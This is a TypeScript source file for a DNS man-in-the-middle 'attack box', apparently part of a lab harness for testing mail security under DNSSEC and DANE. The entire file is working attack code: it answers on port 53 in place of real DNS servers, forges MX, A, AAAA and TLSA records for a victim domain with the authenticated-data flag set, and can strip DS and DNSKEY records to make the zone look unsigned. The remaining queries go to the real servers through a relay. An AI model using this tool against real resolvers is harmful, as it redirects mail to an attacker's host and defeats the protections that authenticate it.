// The man in the middle. All packets of the mailer's machine pass through this one, which holds
// the addresses of every DNS server of the world: what is asked of any of them arrives here. What
// is asked about the victim's domain it answers itself, with AD set and its own mail host; the
// rest it passes on to the server that was meant, through attack-relay.js in another namespace.
//   node attack-box.js CONFIGURATION.json

import { createSocket } from 'node:dgram';
import { appendFileSync, readFileSync, watchFile } from 'node:fs';
import { connect, createServer } from 'node:net';
import { createInterface } from 'node:readline';
import packet from 'dns-packet';
import { framed, onMessages } from './dns-stream.js';

/** `silent` forges nothing; `forge` answers for the victim; `strip` also takes its keys away. */
export type AttackMode = 'silent' | 'forge' | 'strip';

/** What is passed on takes its time, as if the servers were far away, and is written down. */
export interface Far {
  readonly roundTripMs: number;
  /** One line of JSON for each question: `Exchanged`. */
  readonly traceFile: string;
}

export interface Exchanged {
  readonly question: string;
  /** When it came, and when its answer left; milliseconds since 1970. */
  readonly askedMs: number;
  readonly answeredMs: number;
}

export interface AttackConfiguration {
  readonly addresses: readonly string[];
  /** Without its final dot. */
  readonly victim: string;
  /** What the attacker says the records of the victim's mail host are. */
  readonly ipv4: string;
  readonly ipv6: string;
  readonly tlsa: string;
  /** The file that holds the mode, and the socket of the relay. */
  readonly modeFile: string;
  readonly relaySocket: string;
  readonly far?: Far;
}

export interface RelayRequest {
  readonly id: number;
  readonly address: string;
  readonly transport: 'udp' | 'tcp';
  readonly query: string;
}
export interface RelayReply {
  readonly id: number;
  readonly reply: string;
}

const configuration = JSON.parse(readFileSync(process.argv[2]!, 'utf8')) as AttackConfiguration;
const { victim } = configuration;

const readMode = (): AttackMode =>
  readFileSync(configuration.modeFile, 'utf8').trim() as AttackMode;
let mode = readMode();
watchFile(configuration.modeFile, { interval: 50 }, () => {
  mode = readMode();
});

/** What the attacker has to say, by type; other types do not exist at any name. */
function forgedAnswer(name: string, type: string): packet.Answer[] {
  const ttl = 300;
  switch (type) {
    case 'MX':
      return name === victim
        ? [{ type, name, ttl, data: { preference: 10, exchange: `mail.${victim}` } }]
        : [];
    case 'A':
      return [{ type, name, ttl, data: configuration.ipv4 }];
    case 'AAAA':
      return [{ type, name, ttl, data: configuration.ipv6 }];
    case 'TLSA': {
      const [usage, selector, matchingType, digest] = configuration.tlsa.split(' ').slice(1);
      const data = {
        usage: Number(usage),
        selector: Number(selector),
        matchingType: Number(matchingType),
        certificate: Buffer.from(digest!, 'hex'),
      };
      return [{ type, name, ttl, data }];
    }
    default:
      return [];
  }
}

/** Types that the attacker has to leave alone unless it wants the zone to look unsigned. */
const keyTypes = new Set(['DS', 'DNSKEY']);

function questionOf(query: Buffer): packet.Question | undefined {
  try {
    return packet.decode(query).questions?.[0];
  } catch {
    return undefined;
  }
}

function forge(query: Buffer): Buffer | undefined {
  if (mode === 'silent') return undefined;
  const asked = questionOf(query);
  if (asked === undefined) return undefined;
  // Names come in any case from a resolver that mixes it.
  const name = asked.name.toLowerCase();
  if (name !== victim && !name.endsWith(`.${victim}`)) return undefined;
  if (keyTypes.has(asked.type) && mode !== 'strip') return undefined;
  const answers = forgedAnswer(name, asked.type).map((each) => ({ ...each, name: asked.name }));
  return packet.encode({
    type: 'response',
    id: query.readUInt16BE(0),
    flags:
      packet.AUTHORITATIVE_ANSWER |
      packet.RECURSION_DESIRED |
      packet.RECURSION_AVAILABLE |
      packet.AUTHENTIC_DATA,
    questions: [asked],
    answers,
    additionals: [
      {
        ...{ type: 'OPT', name: '.', udpPayloadSize: 1232, extendedRcode: 0, ednsVersion: 0 },
        ...{ flags: packet.DNSSEC_OK, flag_do: true, options: [] },
      } as packet.OptAnswer,
    ],
  });
}

const relay = connect(configuration.relaySocket);
const waiting = new Map<number, (reply: Buffer) => void>();
let lastId = 0;
createInterface(relay).on('line', (line) => {
  const { id, reply } = JSON.parse(line) as RelayReply;
  waiting.get(id)?.(Buffer.from(reply, 'base64'));
  waiting.delete(id);
});

/** The real servers are next door; the rest of the way is waited for. */
function farAway(query: Buffer, send: (reply: Buffer) => void): (reply: Buffer) => void {
  const { far } = configuration;
  if (far === undefined) return send;
  const askedMs = Date.now();
  return (reply) => {
    setTimeout(
      () => {
        send(reply);
        const asked = questionOf(query);
        const question = `${asked?.name.toLowerCase()} ${asked?.type}`;
        const exchanged: Exchanged = { question, askedMs, answeredMs: Date.now() };
        appendFileSync(far.traceFile, `${JSON.stringify(exchanged)}\n`);
      },
      askedMs + far.roundTripMs - Date.now(),
    );
  };
}

function answer(
  query: Buffer,
  address: string,
  transport: 'udp' | 'tcp',
  send: (reply: Buffer) => void,
): void {
  const forged = forge(query);
  if (forged !== undefined) {
    send(forged);
    return;
  }
  lastId += 1;
  waiting.set(lastId, farAway(query, send));
  const request: RelayRequest = { id: lastId, address, transport, query: query.toString('base64') };
  relay.write(`${JSON.stringify(request)}\n`);
}

function serve(address: string): void {
  const socket = createSocket(address.includes(':') ? 'udp6' : 'udp4');
  socket.on('message', (query, client) => {
    answer(query, address, 'udp', (reply) => socket.send(reply, client.port, client.address));
  });
  socket.bind(53, address);
  const server = createServer((connection) => {
    onMessages(connection, (query) => {
      answer(query, address, 'tcp', (reply) => connection.write(framed(reply)));
    });
  });
  server.listen(53, address);
}

for (const address of configuration.addresses) serve(address);
console.log('ready');
